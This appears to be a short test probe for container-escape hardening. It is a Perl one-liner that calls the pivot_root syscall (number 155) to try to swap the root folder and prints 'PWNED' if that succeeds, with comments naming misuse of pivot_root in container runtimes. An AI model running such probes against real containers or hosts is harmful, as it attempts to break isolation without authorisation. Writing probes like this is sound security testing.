# tries: swap the root folder
# from: misused pivot_root in container runtimes
perl -e 'syscall(155, ".", ".") == 0 && print "PWNED\n"'
